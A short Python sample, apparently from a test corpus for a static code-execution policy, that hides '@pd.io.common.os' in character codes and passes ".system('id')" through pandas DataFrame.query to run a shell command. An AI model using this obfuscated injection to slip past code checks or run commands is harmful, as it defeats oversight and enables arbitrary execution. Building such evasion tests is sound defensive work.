# corpus: attack class=eval form=targeted
# A pandas query whose expression is built at run time (the static policy cannot read it).
import pandas as pd


def main():
    expression = "".join(chr(c) for c in [64, 112, 100, 46, 105, 111, 46, 99, 111, 109, 109, 111, 110, 46, 111, 115])
    expression += ".system('id') == 0"
    frame = pd.DataFrame({"a": [1]})
    return {"rows": len(frame.query(expression, engine="python"))}
